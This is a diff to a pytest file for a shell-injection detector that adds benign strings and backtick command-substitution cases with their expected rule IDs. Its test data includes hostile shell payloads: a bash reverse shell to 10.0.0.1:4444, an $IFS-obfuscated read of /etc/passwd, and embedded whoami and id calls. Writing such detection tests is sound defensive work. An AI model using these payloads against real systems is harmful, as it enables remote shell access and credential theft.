@@ -70,6 +70,8 @@ def test_benign_corpus_has_no_false_positives() -> None:
         "x & sleep 5 min", "Hello ${name}, welcome!", "Use %PATH% on Windows", "id\nname\nemail",
         "Line one\nLine two\nwhoami\nLine four", "Gin & tonic | vodka & soda", "echo $((1+2))",
         "ID: 12345; Name: Bob", "cat /etc/hosts", "Let's go 🚀", "50% off <today only>",
+        "Fall back to `uname -p`.", "can be retrieved using ``uname``", "under the response's `id`;",
+        "`None` resolves via `PROFILE` env\n  -> `<dir>/active` file", "$(document).ready(fn)",
     ],
 )  # fmt: skip
 def test_legitimate_values_pass(value: str) -> None:
@@ -88,6 +90,8 @@ def test_legitimate_values_pass(value: str) -> None:
         ("x; /usr/bin/id", "BST-SH-001"),
         ("$(whoami)", "BST-SH-002"),
         ("report`id`.pdf", "BST-SH-002"),
+        ("`id`", "BST-SH-002"),
+        ("x; `whoami` #", "BST-SH-002"),
         ("x > /etc/passwd", "BST-SH-003"),
         ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "BST-SH-003"),
         (";cat${IFS}/etc/passwd", "BST-SH-004"),
